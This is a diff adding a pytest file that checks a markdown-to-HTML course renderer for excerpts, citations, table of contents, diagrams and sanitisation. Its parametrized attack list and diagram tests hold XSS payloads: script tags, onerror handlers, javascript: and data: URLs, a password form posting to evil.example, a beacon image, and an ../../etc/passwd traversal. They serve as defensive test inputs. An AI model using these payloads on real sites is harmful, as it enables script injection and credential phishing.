@@ -1,0 +1,129 @@
+"""Rendered chapters: the dialect comes through, and nothing else does."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from course.rendering import render, stylesheet
+
+COMMIT = "a" * 40
+URL = "https://github.com/owner/repo"
+
+
+def html(markdown: str, source_url: str | None = URL) -> str:
+    return render(markdown, commit=COMMIT, source_url=source_url).html
+
+
+def test_an_excerpt_is_a_figure_that_says_where_it_is_from() -> None:
+    shown = html("```python path=core/x.py lines=10-11\n    def f(self):\n        return '<b>'\n```\n")
+    assert '<figure class="excerpt" data-path="core/x.py" data-start="10" data-end="11">' in shown
+    assert f'href="{URL}/blob/{COMMIT}/core/x.py#L10-L11"' in shown
+    assert "core/x.py:10-11</a>" in shown
+    assert '<span class="badge-verbatim">verbatim</span>' in shown
+    assert '<span class="hl-k">def</span>' in shown
+    assert "<pre>    <span" in shown  # never dedented
+    assert "<b>" not in shown
+
+
+def test_citations_link_to_the_source_where_it_can_be_seen() -> None:
+    markdown = "[core/x.py:10-32](cite:core/x.py#L10-L32)"
+    assert f'<a class="cite" href="{URL}/blob/{COMMIT}/core/x.py#L10-L32"' in html(markdown)
+    for nowhere in (None, "javascript:alert(1)", "http://github.com/o/r", 'https://x/y" onclick="z'):
+        shown = html(markdown, nowhere)
+        assert '<span class="cite" data-path="core/x.py" data-start="10" data-end="32">core/x.py:10-32</span>' in shown
+        assert "<a" not in shown
+
+
+def test_odd_paths_come_through_whole() -> None:
+    shown = html("[x](cite:a%20b/%3Cscript%3E.py#L1-L2)")
+    assert f'href="{URL}/blob/{COMMIT}/a%20b/%3Cscript%3E.py#L1-L2"' in shown
+    assert 'data-path="a b/&lt;script>.py"' in shown or 'data-path="a b/&lt;script&gt;.py"' in shown
+
+
+def test_chapter_links_are_left_to_the_reader_of_the_html() -> None:
+    shown = html("[Session](chapter:session)")
+    assert '<a class="chapter-link" href="#chapter:session" data-chapter="session"' in shown
+
+
+def test_headings_make_a_table_of_contents() -> None:
+    rendered = render("# One `two`\n\n## Same\n\n## Same\n", commit=COMMIT)
+    assert rendered.toc == [
+        {"level": 1, "id": "sec-one-two", "text": "One two"},
+        {"level": 2, "id": "sec-same", "text": "Same"},
+        {"level": 2, "id": "sec-same-2", "text": "Same"},
+    ]
+    assert '<h2 id="sec-same-2">' in rendered.html
+
+
+def test_a_diagram_is_passed_on_escaped_and_a_suspicious_one_is_shown_as_code() -> None:
+    good = 'flowchart LR\n  n0["a"]\n  n1["b"]\n  n0 -->|"calls ×2"| n1'
+    assert '<figure class="diagram"><pre class="mermaid">flowchart LR' in html(f"```mermaid\n{good}\n```")
+    for bad in (
+        'flowchart LR\n  n0["a"]\n  click n0 "https://evil.example"',
+        '%%{init: {"themeCSS": "x"}}%%\nflowchart LR\n  n0["a"]',
+        'flowchart LR\n  n0["<img src=x onerror=alert(1)>"]',
+        'flowchart LR\n  n0["a"]\n  style n0 fill:url(http://x)',
+        "sequenceDiagram\n  A->>B: hi",
+        'flowchart LR\n  n0["a"]\n  n0 --> n9',
+    ):
+        shown = html(f"```mermaid\n{bad}\n```")
+        assert 'class="mermaid"' not in shown
+        assert "<img" not in shown
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "<script>alert(1)</script>",
+        "<style>@import 'http://evil.example';</style>",
+        '<form action="http://evil.example"><input name="password"></form>',
+        '<div style="position:fixed;inset:0">overlay</div>',
+        '<img src=x onerror="alert(1)">',
+        '<a id="app" name="app">clobber</a>',
+        "[x](javascript:alert(1))",
+        "[x](JaVaScRiPt:alert(1))",
+        "[x](&#106;avascript:alert(1))",
+        "[x](data:text/html;base64,AAAA)",
+        "[x](https://evil.example/phish)",
+        "[x](//evil.example)",
+        "[x](cite:../../etc/passwd)",
+        '[x](chapter:a"onmouseover="alert(1))',
+        "![x](http://evil.example/beacon.png)",
+        "<http://evil.example>",
+        "[x]: javascript:alert(1)\n\n[x]",
+        "```python path=x lines=1-2\n```\n<script>alert(1)</script>\n```\n",
+        "```html\"onmouseover=alert(1)\n<b>x</b>\n```",
+        "```python path=\"><script>alert(1)</script> lines=1-2\nx\n```",
+        "# <img src=x onerror=alert(1)>",
+        "| a |\n|---|\n| <script>alert(1)</script> |",
+        "<iframe src=//evil.example></iframe>",
+        "<svg><animate onbegin=alert(1)>",
+    ],
+)  # fmt: skip
+def test_attacks_arrive_as_text(attack: str) -> None:
+    shown = html(attack)
+    tags = re.findall(r"<[^>]*>", shown)
+    for tag in tags:
+        assert not re.match(
+            r"</?(script|style|form|input|img|iframe|svg|animate|object|link|meta|base)\b", tag, re.IGNORECASE
+        )
+        assert not re.search(r"\s(on\w+|style|name|src|action)\s*=", tag, re.IGNORECASE), tag
+        assert "javascript:" not in tag.lower()
+        for address in re.findall(r'href="([^"]*)"', tag):
+            assert address.startswith((f"{URL}/blob/", "#chapter:", "#sec-")), tag
+        for name in re.findall(r'\bid="([^"]*)"', tag):
+            assert name.startswith("sec-")
+
+
+def test_characters_that_reorder_code_are_named() -> None:
+    shown = html("```python path=a.py lines=1-1\nif x:  # \u202e } \u2066\n```")
+    assert "\u202e" not in shown
+    assert "⟨U+202E⟩" in shown
+
+
+def test_the_stylesheet_speaks_of_the_classes_the_renderer_writes() -> None:
+    css = stylesheet()
+    assert ".hl .hl-k" in css
+    assert "prefers-color-scheme: dark" in css
